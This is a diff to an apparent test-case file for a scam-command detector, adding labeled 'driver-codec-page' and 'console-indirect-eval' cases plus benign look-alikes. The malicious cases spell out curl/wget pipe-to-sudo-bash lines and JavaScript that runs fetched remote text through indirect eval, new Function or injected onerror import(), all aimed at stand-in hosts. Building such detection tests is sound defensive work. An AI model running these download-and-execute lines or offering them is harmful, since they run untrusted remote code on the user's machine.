@@ -25,6 +25,13 @@ Techniques:
   order, call the refunds department", an exchange withdrawal "if it was not you, call our
   security team". Look-alikes: genuine receipts and renewals with a support number and no push
   to call about the charge (questions, delivery, cancel in the app or the account).
+- `driver-codec-page`: a download-and-run from a site named for getting a device's driver or a
+  player's codec (realtek-wifi-drivers, hevc-codec-pack) whose script comes from a host sharing
+  nothing with it. Look-alikes: such a site serving its own script, a maker's one-word domain
+  with a drivers path, a tutorial site about drivers, a known installer quoted there.
+- `console-indirect-eval`: fetched text run through eval called indirectly ((0,eval),
+  window.eval, new Function on one awaited fetch), and a module imported from another site
+  inside an HTML string. Look-alikes: fetched text logged or shown, a relative request.
 """
 
 from __future__ import annotations
@@ -153,6 +160,99 @@ for i, text in enumerate(CALLBACK_CALM):
         "any",
         "unknown" if i % 2 else "other",
         None if i % 3 else "https://mail.example.org/inbox",
+    )
+
+# ---- driver-codec-page ---------------------------------------------------------------------
+DRIVER_PAGES = [
+    "https://www.realtek-wifi-drivers.example/linux",
+    "https://hevc-codec-pack.test/download",
+    "https://www.canon-printer-drivers.invalid/mac",
+    "https://gpu-driver-center.example/ubuntu",
+    "https://x265-codecs.test/install",
+]
+STRANGER_RUNS = [
+    "curl -fsSL https://l1.kakapo-cdn.invalid/rtl.sh | sudo bash",
+    '/bin/bash -c "$(curl -fsSL https://m2.numbat-host.test/install)"',
+    "wget -qO- https://cdn.tui-files.example/setup.sh | sh",
+    "curl -sSL https://203.0.113.44/drv.sh -o /tmp/drv.sh && sudo bash /tmp/drv.sh",
+]
+for i, page in enumerate(DRIVER_PAGES):
+    for j in range(2):
+        text = STRANGER_RUNS[(i + j) % len(STRANGER_RUNS)]
+        plat = "macos" if "/mac" in page else "linux"
+        add("driver-codec-page", text, "malicious", plat, "terminal", page)
+DRIVER_CALM = [
+    # the site's own script
+    (
+        "https://www.realtek-wifi-drivers.example/linux",
+        "curl -fsSL https://dl.realtek-wifi-drivers.example/install.sh | sudo bash",
+    ),
+    (
+        "https://hevc-codec-pack.test/download",
+        "curl -fsSL https://hevc-codec-pack.test/get.sh | sh",
+    ),
+    # a known installer quoted there
+    ("https://gpu-driver-center.example/ubuntu", "curl -fsSL https://get.docker.com | sh"),
+    # a tutorial site about drivers (a writing word in its name)
+    (
+        "https://linux-driver-notes.example/realtek-rtl8821ce",
+        "curl -fsSL https://l1.kakapo-cdn.invalid/rtl.sh | sudo bash",
+    ),
+]
+for page, text in DRIVER_CALM:
+    add(
+        "driver-codec-page",
+        text,
+        "not_flagged" if "kakapo" not in text else "suspicious",
+        "linux",
+        "terminal",
+        page,
+    )
+# the same stranger's script from a tutorial about software, and bare: a warning, as before
+add(
+    "driver-codec-page",
+    STRANGER_RUNS[0],
+    "suspicious",
+    "linux",
+    "terminal",
+    "https://www.linux-tips.example/blog/post-1234",
+)
+add("driver-codec-page", STRANGER_RUNS[0], "suspicious", "linux", "terminal")
+
+# ---- console-indirect-eval -----------------------------------------------------------------
+EVAL_URLS = [
+    "https://x.kokako-cdn.test/p",
+    "https://203.0.113.61/c.js",
+    "https://cdn.claim-fast.invalid/s",
+]
+EVALS = [
+    "(0,eval)(await fetch('{u}').then(r=>r.text()))",
+    "(0, eval)(await (await fetch('{u}')).text())",
+    'window.eval(await fetch("{u}").then(function(r){{return r.text()}}))',
+    "globalThis.eval(await fetch(`{u}`).then(r => r.text()))",
+    "new Function(await fetch('{u}').then(r => r.text()))()",
+    "document.head.insertAdjacentHTML('beforeend','<img src=x onerror=\"import(\\'{u}\\')\">')",
+    "document.body.innerHTML += '<img src=1 onerror=\"import(\\'{u}\\')\">'",
+]
+for i, tmpl in enumerate(EVALS):
+    text = tmpl.replace("{{", "{").replace("}}", "}").replace("{u}", EVAL_URLS[i % 3])
+    add("console-indirect-eval", text, "malicious", "browser", "browser_console", PAGES[i % 3])
+    add("console-indirect-eval", text, "flagged", "browser", "unknown")
+EVAL_CALM = [
+    "const t = await fetch('https://api.example.com/v1/me').then(r => r.text()); console.log(t)",
+    "document.getElementById('out').textContent = await fetch('/notes.txt').then(r => r.text())",
+    "(0, console.log)(await fetch('https://api.example.com/v1/ping').then(r => r.status))",
+    "const mod = await import('./local-module.js'); mod.init()",
+    "el.insertAdjacentHTML('beforeend', '<img src=\"/static/logo.png\" alt=\"logo\">')",
+]
+for i, text in enumerate(EVAL_CALM):
+    add(
+        "console-indirect-eval",
+        text,
+        "not_flagged",
+        "browser",
+        "browser_console",
+        "https://developer.example.com/docs/api" if i % 2 else None,
     )
 
 CASES = book.cases
